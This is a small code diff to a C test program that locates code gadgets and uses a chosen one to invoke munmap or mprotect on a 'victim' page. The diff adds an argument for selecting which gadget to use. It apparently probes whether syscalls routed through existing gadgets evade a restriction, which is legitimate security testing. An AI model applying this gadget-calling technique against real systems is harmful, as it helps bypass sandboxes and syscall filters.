@@ -12,6 +12,9 @@ int main(int argc, char **argv) {
     find_gadgets();
     if (!ncand) { printf("known_gadget: no gadget\n"); return 0; }
     int how = argc > 4 ? atoi(argv[4]) : 0;
+    int pick = argc > 5 ? atoi(argv[5]) : 0;
+    if (pick >= ncand) { printf("known_gadget: no gadget %d\n", pick); return 0; }
+    printf("gadget %d at %#lx\n", pick, cands[pick]);
     char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     snprintf(page, 4096, "%s/victim", ro);
     struct stat st;
@@ -20,7 +23,7 @@ int main(int argc, char **argv) {
     if (a >= 0) close(a);
     if (b >= 0) close(b);
     fflush(stdout);
-    long r = how ? call_gadget(cands[0], SYS_munmap, (long)page, 4096, 0, 0) : call_gadget(cands[0], SYS_mprotect, (long)page, 4096, PROT_NONE, 0);
+    long r = how ? call_gadget(cands[pick], SYS_munmap, (long)page, 4096, 0, 0) : call_gadget(cands[pick], SYS_mprotect, (long)page, 4096, PROT_NONE, 0);
     printf("%s through the gadget: %ld\n", how ? "munmap" : "mprotect PROT_NONE", r);
     fflush(stdout);
     signal(SIGSEGV, SIG_DFL);
